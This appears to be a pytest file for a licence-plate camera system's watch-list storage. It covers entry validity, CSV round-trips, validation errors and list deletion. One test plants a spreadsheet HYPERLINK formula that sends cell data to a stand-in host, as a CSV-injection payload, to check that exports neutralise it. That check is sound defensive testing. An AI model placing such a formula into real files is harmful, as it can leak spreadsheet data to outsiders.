"""Lists of plates, alike in both databases."""

import pytest

from orchestrator.errors import ParameterError
from plate_cameras.configuration import Camera
from plate_cameras.store.errors import StoreError, UnknownName
from plate_cameras.store.finding.pass_query import PassQuery
from plate_cameras.store.lists.list_lookup import ListEntry
from plate_cameras.store.pass_store import PassStore
from plate_cameras.store.scope import EVERYTHING
from tests.plate_cameras.store.stored_events import NOW_S, REQUESTER, find_ids, make_event

CSV = """text,note,valid_from,valid_until,edits
A123BC77,flat 4,2025-01-01T00:00:00.000Z,,1
B777BB77,,,,0
"""


@pytest.fixture
def listed(store: PassStore) -> PassStore:
    """Return a store with an empty list, which the camera `gate` looks up."""
    store.lists.create("residents")
    store.configure([Camera("gate", "rtsp://gate", lists=("residents",))])
    return store


@pytest.mark.parametrize(
    ("entry", "is_hit"),
    [
        pytest.param(ListEntry("A123BC77", valid_until_s=NOW_S), True, id="still valid"),
        pytest.param(ListEntry("B128BC77", edits=2), True, id="two edits"),
        pytest.param(ListEntry("A123BC77", valid_until_s=NOW_S - 60), False, id="no longer valid"),
    ],
)
def test_a_pass_hits_an_entry(listed: PassStore, entry: ListEntry, is_hit: bool) -> None:
    listed.lists.put("residents", [entry])
    listed.write([make_event("a")], [])

    assert find_ids(listed, PassQuery(list_name="residents")) == ["a"] * is_hit


def test_changes_count_from_the_next_write(listed: PassStore) -> None:
    listed.write([make_event("a")], [])
    listed.lists.put("residents", [ListEntry("A123BC77")])
    listed.write([make_event("b")], [])
    listed.lists.remove("residents", "A123BC77")
    listed.write([make_event("c")], [])

    assert find_ids(listed, PassQuery(list_name="residents")) == ["b"]


def test_an_entry_is_replaced(listed: PassStore) -> None:
    listed.lists.put("residents", [ListEntry("a123bc77", "old"), ListEntry("B777BB77")])
    listed.lists.put("residents", [ListEntry("A123BC77", "new")])

    assert listed.lists.entries("residents", EVERYTHING) == [
        ListEntry("A123BC77", "new"),
        ListEntry("B777BB77"),
    ]


def test_a_csv_file_returns_as_it_came(listed: PassStore) -> None:
    assert listed.lists.import_csv("residents", CSV) == 2
    assert "".join(listed.lists.export_csv("residents", REQUESTER)) == CSV


def test_a_note_is_no_formula_in_a_csv_file(listed: PassStore) -> None:
    entry = ListEntry("A123BC77", '=HYPERLINK("http://site/?"&A1)')
    listed.lists.put("residents", [entry])
    file = "".join(listed.lists.export_csv("residents", REQUESTER))
    assert file.splitlines()[1].startswith("A123BC77,\"'=HYPERLINK")
    listed.lists.import_csv("residents", file, replacing=True)
    assert listed.lists.entries("residents", EVERYTHING) == [entry]


@pytest.mark.parametrize(
    "entry",
    [
        pytest.param(ListEntry("A123BC77", valid_from_s=-62_135_647_200.0), id="before year 1"),
        pytest.param(ListEntry("A123BC77", valid_until_s=253_402_351_140.0), id="after year 9999"),
        pytest.param(ListEntry("A123BC77", "x" * 2001), id="long note"),
    ],
)
def test_an_entry_that_could_not_be_shown_is_rejected(listed: PassStore, entry: ListEntry) -> None:
    with pytest.raises(ParameterError, match=r"wanted (a time|at most 2000)"):
        listed.lists.put("residents", [entry])
    assert listed.lists.entries("residents", EVERYTHING) == []


def test_a_csv_file_may_replace_all_entries(listed: PassStore) -> None:
    listed.lists.put("residents", [ListEntry("K777KK50")])
    listed.lists.import_csv("residents", "\ufefftext\nA123BC77\n", replacing=True)

    assert [entry.text for entry in listed.lists.entries("residents", EVERYTHING)] == ["A123BC77"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        pytest.param(
            "text,edits\nA123BC77,many\n", "line 2: edits: wanted", id="edits are no number"
        ),
        pytest.param("text,edits\nA1,2\n", "7 characters or more", id="too short for its edits"),
    ],
)
def test_a_wrong_csv_file_changes_nothing(listed: PassStore, content: str, message: str) -> None:
    with pytest.raises(ParameterError, match=message):
        listed.lists.import_csv("residents", content)
    assert listed.lists.entries("residents", EVERYTHING) == []


def test_a_list_is_created_once(listed: PassStore) -> None:
    with pytest.raises(StoreError, match="already"):
        listed.lists.create("residents")
    assert listed.lists.names() == ["residents"]


def test_a_deleted_list_takes_its_hits_along(listed: PassStore) -> None:
    listed.lists.put("residents", [ListEntry("A123BC77")])
    listed.write([make_event("a")], [])
    listed.lists.delete("residents")

    assert listed.get("a", REQUESTER).hits == ()
    with pytest.raises(UnknownName):
        listed.lists.entries("residents", EVERYTHING)
